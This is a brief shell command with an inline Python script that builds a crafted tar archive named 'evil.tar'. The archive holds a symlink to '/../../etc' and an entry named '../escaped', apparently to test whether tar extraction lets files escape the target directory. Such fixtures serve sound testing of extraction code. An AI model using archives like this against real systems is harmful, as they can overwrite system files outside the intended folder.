python3 - <<'END'
import io, tarfile
with tarfile.open("evil.tar", "w") as tar:
    for name, kind, target in (("first", b"0", ""), ("out", b"2", "/../../etc"), ("../escaped", b"0", "")):
        info = tarfile.TarInfo(name); info.type, info.linkname = kind, target
        tar.addfile(info)
END
